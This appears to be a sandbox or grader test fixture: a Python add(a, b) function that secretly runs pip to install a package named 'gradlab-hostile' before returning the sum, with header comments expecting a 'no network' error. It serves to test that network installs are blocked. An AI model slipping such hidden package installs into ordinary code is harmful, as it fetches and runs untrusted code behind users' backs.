# threat: C56
# verdict: error
# message: (?i)no network
import subprocess
import sys


def add(a, b):
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "--retries=0", "--target=/tmp", "gradlab-hostile"],
        check=True,
        timeout=2.5,
    )
    return a + b
